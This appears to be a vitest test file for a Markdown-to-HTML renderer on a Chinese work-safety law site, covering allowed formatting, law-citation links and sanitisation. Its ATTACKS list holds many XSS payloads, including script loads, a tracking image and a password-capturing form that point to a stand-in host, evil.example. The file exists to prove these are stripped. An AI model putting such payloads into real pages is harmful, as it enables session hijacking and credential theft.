import * as fc from 'fast-check';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { describe, expect, test } from 'vitest';
import { isFence, lex, render } from '#lib/platform/markdown.server.ts';

const ON = '2026-03-18';
const htmlOf = (source: string) => render(source, ON).html;

const TAGS = 'p h2 h3 h4 ul ol li blockquote strong em del code pre hr br a'.split(' ');
const ATTRIBUTES: Record<string, string[]> = { a: ['href', 'className'], ol: ['start'] };

interface Node {
	type: string;
	tagName?: string;
	properties?: Record<string, unknown>;
	children?: Node[];
}

/** Everything in the HTML, as a browser would read it, that our material may not contain. */
function findDangers(html: string): string[] {
	const walk = (node: Node): string[] => {
		const dangers = (node.children ?? []).flatMap(walk);
		if (node.type !== 'element') return node.type === 'comment' ? [...dangers, 'comment'] : dangers;
		const tag = node.tagName!;
		if (!TAGS.includes(tag)) dangers.push(`<${tag}>`);
		for (const [name, value] of Object.entries(node.properties ?? {})) {
			if (!ATTRIBUTES[tag]?.includes(name)) dangers.push(`${tag} ${name}`);
			const classes = name === 'className' ? [value].flat().map(String) : [];
			dangers.push(...classes.filter((one) => one !== 'law-link').map((one) => `class ${one}`));
			// Read with a base, as a browser does: tabs dropped, case folded.
			if (name === 'href' && !/^https?:$/.test(new URL(String(value), 'https://leitai.example').protocol)) {
				dangers.push(`href ${String(value)}`);
			}
		}
		return dangers;
	};
	return walk(unified().use(rehypeParse, { fragment: true }).parse(html));
}

describe('what our material needs is kept', () => {
	test.each([
		['**要点**：_慎重_，~~作废~~', '<p><strong>要点</strong>：<em>慎重</em>，<del>作废</del></p>'],
		['## 现场\n\n1. 一\n2. 二', '<h2>现场</h2>\n<ol>\n<li>一</li>\n<li>二</li>\n</ol>\n'],
		['3. 三', '<ol start="3">\n<li>三</li>\n</ol>\n'],
		['> 引文', '<blockquote>\n<p>引文</p>\n</blockquote>\n'],
		['[官网](https://example.com/a?b=1)', '<p><a href="https://example.com/a?b=1">官网</a></p>'],
		['[案例](/cases/laundry-missed-drill)', '<p><a href="/cases/laundry-missed-drill">案例</a></p>'],
		['a < b & c', '<p>a &#x3C; b &#x26; c</p>']
	])('%j', (source, html) => {
		expect(htmlOf(source).trim()).toBe(html.trim());
		expect(findDangers(html)).toEqual([]);
	});
});

describe('links to the law', () => {
	test('a link opens the article on the day of the piece, and is a citation', () => {
		const { html, citations, broken } = render('见[第九十七条](law:work-safety-law/97/1/3)。', ON);
		expect(html).toBe(`<p>见<a href="/laws/work-safety-law/97?on=${ON}" class="law-link">第九十七条</a>。</p>\n`);
		expect(citations).toEqual([{ law: 'work-safety-law', article: '97', paragraph: 1, item: 3 }]);
		expect(broken).toEqual([]);
	});

	test('each reference once, in order; another paragraph is another reference', () => {
		const source = '[甲](law:b-law/2) [乙](law:a-law/1) [丙](law:b-law/2) [丁](law:b-law/2/1)';
		expect(render(source, ON).citations.map(({ law, article, paragraph }) => [law, article, paragraph])).toEqual([
			['b-law', '2', undefined],
			['a-law', '1', undefined],
			['b-law', '2', 1]
		]);
	});

	test.each(['law:work-safety-law', 'law:work-safety-law/x', 'law:work-safety-law/0', 'law:work-safety-law/97/1/3/4'])(
		'%s is reported, and is no link',
		(address) => {
			const { html, citations, broken } = render(`[条文](${address})`, ON);
			expect([broken, citations]).toEqual([[address], []]);
			expect(html).toBe('<p><a>条文</a></p>\n');
		}
	);
});

const ATTACKS = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<img src=x onerror=alert(1)>',
	'<p onclick="alert(1)" onmouseover=alert(1)>段落</p>',
	'<a href="javascript:alert(1)">点</a>',
	'<a href="JaVaScRiPt:alert(1)">点</a>',
	'<a href="java\tscript:alert(1)">点</a>',
	'<a href=" javascript:alert(1)">点</a>',
	'<a href="&#106;avascript&colon;alert(1)">点</a>',
	'<a href="\u0001javascript:alert(1)">点</a>',
	'<a href="vbscript:x" target="_blank" style="x" id="login" name="forms">点</a>',
	'[点](javascript:alert(1))',
	'[点](javascript&#58;alert(1))',
	'[点](<java\nscript:alert(1)>)',
	'[点](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'![图](https://evil.example/track.png)',
	'![图](javascript:alert(1))',
	'![" onerror="alert(1)](x)',
	'<svg onload=alert(1)><a href="javascript:alert(1)"><text>x</text></a></svg>',
	'<svg><script>alert(1)</script></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
	'<style>@import "//evil.example"; body{display:none}</style>',
	'<p style="position:fixed;inset:0">盖住</p>',
	'<iframe src="https://evil.example"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="x"></object><embed src="x">',
	'<form action="https://evil.example"><input name="password"><button>登录</button></form>',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<template><script>alert(1)</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	'<!-- <img src=x onerror=alert(1)> -->',
	'<!--><script>alert(1)</script>-->',
	'<![CDATA[<script>alert(1)</script>]]>',
	'<div class="banner"><video src=x onerror=alert(1)></video></div>',
	'`</code><script>alert(1)</script>`',
	'```"><script>alert(1)</script>\nx\n```',
	'<a class="law-link evil" href="x">点</a>',
	'<p><b><i onpointerenter=alert(1)><u>嵌套</u></i></b></p>'
];

describe('nothing dangerous comes through', () => {
	test.each(ATTACKS)('%j', (source) => {
		const html = htmlOf(source);
		expect(findDangers(html)).toEqual([]);
		expect(html).not.toMatch(/<(script|img|svg|style|iframe|object|form|meta|link|base)/i);
	});

	test('the text of scripts and styles goes with them, other text stays', () => {
		expect(htmlOf('前<script>alert(1)</script>后')).toBe('<p>前后</p>\n');
		expect(htmlOf('<style>p{}</style>正文')).not.toContain('p{}');
		expect(htmlOf('<div>正文</div>')).toBe('正文');
	});

	test('however the pieces are joined and nested', () => {
		const pieces = fc.constantFrom(
			...ATTACKS,
			'<',
			'>',
			'"',
			"'",
			'`',
			'\n\n',
			'> ',
			'- ',
			'](',
			'[',
			'**',
			'</p>',
			'<a href='
		);
		fc.assert(
			fc.property(fc.array(pieces, { minLength: 1, maxLength: 6 }), (parts) => {
				expect(findDangers(htmlOf(parts.join('')))).toEqual([]);
			}),
			{ numRuns: 300 }
		);
	});

	test.each([
		['<p onclick="x">a</p>', 'p onClick'],
		['<img src=x>', '<img>'],
		['<a href="java\tscript:x">a</a>', 'href java\tscript:x'],
		['<!-- a -->', 'comment']
	])('the search itself finds %j', (html, danger) => {
		expect(findDangers(html)).toContain(danger);
	});
});

test('lex cuts into blocks and knows a checkpoint from other code', () => {
	const tokens = lex('## 现场\n\n正文\n\n```checkpoint\nid: x\n```\n\n```yaml\na: 1\n```\n');
	expect(tokens.map(({ type }) => type)).toEqual(['heading', 'paragraph', 'code', 'code']);
	expect(tokens.map((token) => isFence(token, 'checkpoint'))).toEqual([false, false, true, false]);
});
